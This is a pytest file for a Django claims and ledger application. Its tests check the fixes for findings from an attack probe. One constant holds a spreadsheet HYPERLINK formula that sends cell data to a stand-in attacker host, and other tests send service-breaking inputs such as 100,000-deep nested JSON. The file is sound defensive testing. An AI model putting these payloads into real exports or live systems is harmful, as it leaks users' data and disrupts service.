"""One test per finding of the attack probe (issue 13), each failing on the code before the fix.

Privilege escalation in account administration is issue 20's (separation of duties) and tested there."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client

from dae.claims.actions import do_submit_declaration
from dae.claims.models import Declaration, Settlement
from dae.core.errors import InvalidInput
from dae.core.models import AccessRecord
from dae.ledger.actions import Cr, Dr, do_post
from tests.claims.builders import declaration, settlement
from tests.factories import REGION_A, make_user
from tests.reimbursement.helpers import api_body

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def login(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


# -- formula injection ---------------------------------------------------------------------------------------

def test_ledger_statement_export_writes_a_formula_looking_description_as_text(world: dict[str, Any]) -> None:
    finance = world["users"]["finance"]
    do_post([Dr("5101", "10.00"), Cr("100202", "10.00")], date=__import__("datetime").date(2026, 3, 2),
            description=FORMULA, reference=("ledger.manual", "@SUM(A1)"), key="probe-1", actor=finance, region=REGION_A)
    client = login(finance)
    url = "/ledger/accounts/5101/?start=2026-01-01&end=2026-03-31&export="
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(client.get(url + "xlsx").content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value in (FORMULA, "@SUM(A1)")]
    assert [(c.value, c.data_type) for c in cells] == [(FORMULA, "s"), ("@SUM(A1)", "s")]
    rows = list(csv.reader(io.StringIO(client.get(url + "csv").content.decode("utf-8-sig"))))
    line = next(r for r in rows if FORMULA in "".join(r))
    assert line[2] == "'" + FORMULA and line[4] == "'@SUM(A1)"


def _roster_batch(world: dict[str, Any], content: bytes) -> Any:
    from dae.imports.actions import do_start_import
    from dae.imports.models import ImportBatch

    batch = do_start_import("roster", user=world["users"]["manager"], file_name="roster.csv", chunks=iter([content]),
                         region_id=REGION_A)
    return ImportBatch.objects.get(pk=batch.pk)


def test_import_error_report_writes_values_as_text_and_is_capped_with_counts(world: dict[str, Any]) -> None:
    from dae.imports.framework import MAX_KEPT_PROBLEMS

    header = ["psn_no", "psn_cert_type", "certno", "psn_name", "gend", "brdy", "insuplc_admdvs", "psn_type",
              "psn_insu_stas", "psn_insu_date"]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for i in range(MAX_KEPT_PROBLEMS + 500):  # every row: a formula for a code, a bad date
        writer.writerow([f"P{i:05d}", FORMULA, "x", "名", "1", "1980-01-01", REGION_A, "1101", "1", "not-a-date"])
    batch = _roster_batch(world, out.getvalue().encode())
    assert batch.status == "rejected" and batch.problems.count() == MAX_KEPT_PROBLEMS
    assert batch.problems_total > MAX_KEPT_PROBLEMS
    assert not Path(batch.path).exists()  # the refused file is not kept
    response = login(world["users"]["manager"]).get(f"/imports/{batch.pk}/errors.xlsx")
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(response.content))
    report, kinds = book["错误报告"], book["问题分类"]
    formula_cells = [c for row in report.iter_rows() for c in row if c.value == FORMULA]
    assert formula_cells and {c.data_type for c in formula_cells} == {"s"}
    assert report.max_row == 3 + 1 + MAX_KEPT_PROBLEMS  # header block, column row, the kept problems
    assert sum(row[1].value for row in kinds.iter_rows(min_row=2)) == batch.problems_total


# -- one bad number breaks pages for everyone -----------------------------------------------------------------

def test_a_declared_amount_beyond_what_a_stay_costs_is_rejected_and_never_stored(world: dict[str, Any]) -> None:
    from tests.factories import EnrolmentFactory, PersonFactory, region

    person = PersonFactory(region=region(REGION_A), psn_no="PX0001", psn_name="赵六", certno="220282197001010013")
    EnrolmentFactory(person=person)
    huge = settlement("HUGE1", "PX0001", "2026-09-01 10:00:00", medfee="999999999999999.99",
                      inscp="999999999999999.99")
    d, _created = do_submit_declaration(world["users"]["hospital"], file_name="d.json",
                                     chunks=iter([declaration("HA0001", "2026-09", [huge])]))
    d.refresh_from_db()
    assert (d.accepted, d.rejected) == (0, 1)
    assert "不能大于 10,000,000.00" in d.items.get().reason
    assert not Settlement.objects.filter(setl_id="HUGE1").exists()


def test_a_manual_claim_total_in_exponent_or_beyond_the_bound_is_refused(world: dict[str, Any]) -> None:
    client = login(world["users"]["settlement"])
    for total in ("1e20", "1E+5", "1e30", "100000000000000000000.00", "10000000.01"):
        body = api_body()
        body["totals"]["medfee_sumamt"] = total
        response = client.post("/api/v1/manual-claims/", body, content_type="application/json")
        assert response.status_code == 400, total
        assert response.json()["details"]["totals"]["medfee_sumamt"][0].startswith("金额"), total


def test_absurd_query_values_answer_400_not_500(world: dict[str, Any]) -> None:
    answers = {}
    for who, url in (("finance", "/api/v1/fund/shortfall?region=220282&amount=1e30"),
                     ("manager", "/api/v1/workdays/deadline?start=9999-12-20&days=15"),
                     ("finance", "/api/v1/ledger/trial-balance?date=0001-01-01")):
        response = login(world["users"][who]).get(url)
        answers[url.split("?")[0]] = (response.status_code, response.json()["code"])
    assert answers == {"/api/v1/fund/shortfall": (400, "invalid_amount"),
                       "/api/v1/workdays/deadline": (400, "invalid_input"),
                       "/api/v1/ledger/trial-balance": (400, "invalid_date")}
    page = login(world["users"]["finance"]).get("/ledger/accounts/5101/?start=0001-01-01&end=2026-03-31")
    assert page.status_code == 400 and "应在 1990-01-01 到 2100-12-31 之间" in page.content.decode()


def test_json_nested_100000_deep_is_refused_before_parsing(world: dict[str, Any]) -> None:
    before = set(Path(settings.UPLOAD_DIR).glob("declarations/*/*"))
    body = "[" * 100_000 + "]" * 100_000
    for url in ("/api/v1/manual-claims/", "/api/v1/declarations/"):
        response = login(world["users"]["settlement"]).post(url, body, content_type="application/json")
        assert (response.status_code, response.json()["code"]) == (400, "json_too_deep"), url
    assert set(Path(settings.UPLOAD_DIR).glob("declarations/*/*")) == before


def test_entries_dated_9999_are_refused(world: dict[str, Any]) -> None:
    finance = login(world["users"]["finance"])
    for url, body in (
        ("/api/v1/ledger/transactions",
         {"date": "9999-12-31", "description": "x", "idempotency_key": "k9", "region": REGION_A,
          "legs": [{"account": "100201", "debit": "1.00"}, {"account": "4101", "credit": "1.00"}]}),
        ("/api/v1/deductions", {"hospital": "HA0001", "kind": "other", "amount": "1.00", "reason": "x",
                                "document": "D1", "confirmed_on": "9999-12-31"}),
        ("/api/v1/fund/entries", {"region": REGION_A, "kind": "interest", "on": "9999-12-31", "amount": "1.00",
                                  "reason": "x", "key": "k"}),
    ):
        response = finance.post(url, body, content_type="application/json")
        assert response.status_code == 400, url
        assert "1990-01-01 到 2100-12-31" in json.dumps(response.json(), ensure_ascii=False), url


# -- bad ids ------------------------------------------------------------------------------------------------

def test_an_id_that_is_not_an_id_answers_404_on_the_eight_routes(world: dict[str, Any]) -> None:
    client = login(world["users"]["manager"])
    answers = {(route, bad): (r.status_code, r.json()["code"])
               for route in ("adjustments", "code-mappings", "declarations", "enrolments", "events", "imports",
                             "notices")
               for bad in ("null", "AAA", "99999999999999999999999", "-1", "1.5")
               for r in [client.get(f"/api/v1/{route}/{bad}/")]}
    assert set(answers.values()) == {(404, "not_found")}
    correction = client.post("/api/v1/enrolments/AAA/corrections/", {}, content_type="application/json")
    assert correction.status_code == 404


# -- costly or unclear refusals -------------------------------------------------------------------------------

def test_a_refused_declaration_file_is_removed(world: dict[str, Any]) -> None:
    before = set(Path(settings.UPLOAD_DIR).glob("declarations/*/*"))
    with pytest.raises(InvalidInput):
        do_submit_declaration(world["users"]["hospital"], file_name="d.json", chunks=iter([b'{"settlements": 1}']))
    assert set(Path(settings.UPLOAD_DIR).glob("declarations/*/*")) == before
    assert Declaration.objects.count() == 0


@pytest.mark.parametrize(("name", "content", "code", "words"), [
    ("r.xlsx", b"PK\x03\x04broken", "corrupt_workbook", "Excel 文件已损坏"),
    ("r.xlsx", b"not a zip at all", "not_a_workbook", "不是 Excel 工作簿"),
    ("r.csv", b'"' + b"x" * 200_000 + b'"\n', "field_too_long", "个字符"),
])
def test_a_bad_file_is_refused_with_what_is_wrong(name: str, content: bytes, code: str, words: str) -> None:
    from dae.bank.parser import parse_statement

    with pytest.raises(InvalidInput) as refused:
        parse_statement(content, name)
    assert refused.value.code == code and words in refused.value.message


def test_a_zip_that_is_no_workbook_is_named_as_such() -> None:
    import zipfile

    from dae.bank.parser import parse_statement

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(InvalidInput) as refused:
        parse_statement(out.getvalue(), "x.xlsx")
    assert refused.value.code == "not_a_workbook"


def test_an_empty_upload_says_the_file_is_empty(world: dict[str, Any]) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = login(world["users"]["manager"]).post(
        "/api/v1/imports/", {"kind": "roster", "region": REGION_A, "file": SimpleUploadedFile("r.csv", b"")})
    assert response.status_code == 400 and "为空" in json.dumps(response.json(), ensure_ascii=False)


def test_an_upload_larger_than_its_kind_allows_is_refused_with_413_before_it_is_read(world: dict[str, Any]) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from dae.core import uploads

    big = SimpleUploadedFile("s.csv", b"0" * (uploads.UPLOAD_LIMITS["bank_statement"] + uploads.FORM_SLACK + 1))
    response = login(world["users"]["finance"]).post(
        "/api/v1/bank/statements", {"region": REGION_A, "account": "100201", "file": big})
    assert response.status_code == 413
    assert response.json()["message"].startswith("银行对账单过大：最大 20.0 MB")


# -- refusals recorded -----------------------------------------------------------------------------------

def test_a_403_is_in_the_access_log_with_the_user_page_and_api(world: dict[str, Any]) -> None:
    it = make_user("it", username="probe-it")
    client = login(it)
    assert client.get("/enrollment/persons/").status_code == 403
    assert client.get("/api/v1/persons/").status_code == 403
    rows = list(AccessRecord.objects.filter(actor=it).values_list("why", "object_type", "object_id", "path"))
    assert rows == [("denied", "route", "api:person-list", "GET /api/v1/persons/"),
                    ("denied", "route", "enrollment:person_list", "GET /enrollment/persons/")]
